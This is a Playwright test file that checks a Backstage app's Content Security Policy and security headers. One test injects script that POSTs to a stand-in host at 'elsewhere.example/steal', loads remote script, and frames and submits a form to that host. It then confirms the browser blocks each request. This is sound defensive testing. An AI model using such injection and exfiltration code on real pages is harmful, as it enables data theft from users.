import { expect, test } from '@playwright/test';
import { collectComplaints } from './support/complaints';
import { People, PEOPLE } from './support/people';

/** As tight as Backstage allows: docs/reference/security.md says why each. */
const POLICY = {
  'default-src': "'none'",
  'base-uri': "'self'",
  'connect-src': "'self'",
  'font-src': "'self'",
  'form-action': "'self'",
  'frame-ancestors': "'none'",
  'img-src': "'self' data:",
  'manifest-src': "'self'",
  'object-src': "'none'",
  'script-src': "'self' 'unsafe-eval'",
  'script-src-attr': "'none'",
  'style-src': "'self' 'unsafe-inline'",
};

const HEADERS = {
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': /camera=\(\).*geolocation=\(\).*microphone=\(\)/,
  'referrer-policy': /^no-referrer$/,
  'strict-transport-security': /max-age=\d{8}/,
  'x-content-type-options': 'nosniff',
  'x-frame-options': /^(DENY|SAMEORIGIN)$/,
};

const PATHS = [
  '/',
  '/environments',
  '/no/such/page',
  '/api/research-environments/environments',
  '/api/no-such-plugin',
];

for (const path of PATHS) {
  test(`${path} is sent with the headers that keep others out`, async ({
    request,
  }) => {
    const headers = (await request.get(path)).headers();
    const directives = headers['content-security-policy']
      .split(';')
      .map(directive => directive.trim().split(/ (.*)/));
    expect(
      Object.fromEntries(directives.map(([name, value]) => [name, value])),
    ).toEqual(POLICY);
    for (const [name, value] of Object.entries(HEADERS)) {
      expect(headers[name], name).toMatch(value);
    }
    expect(headers).not.toHaveProperty('x-powered-by');
  });
}

test('what a smuggled script could do is blocked, and a journey fails on it', async ({
  browser,
}) => {
  const people = new People(browser);
  const page = await people.page(PEOPLE.researcher, '/');
  const complaints = collectComplaints(page.context());
  const elsewhere = 'http://elsewhere.example';
  await page.evaluate(async url => {
    new Image().src = `${url}/pixel`;
    await fetch(`${url}/steal`, { method: 'POST', body: 'x' }).catch(() => {});
    const script = document.createElement('script');
    script.src = `${url}/more.js`;
    document.body.append(script);
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
    const form = document.createElement('form');
    form.action = url;
    document.body.append(form);
    form.submit();
  }, elsewhere);
  for (const directive of [
    'img-src',
    'connect-src',
    'script-src',
    'form-action',
    'default-src',
  ]) {
    await expect
      .poll(() => complaints.join('\n'))
      .toContain(`Content Security Policy directive: "${directive} `);
  }
  await expect(people.close()).rejects.toThrow('the browser complained');
});
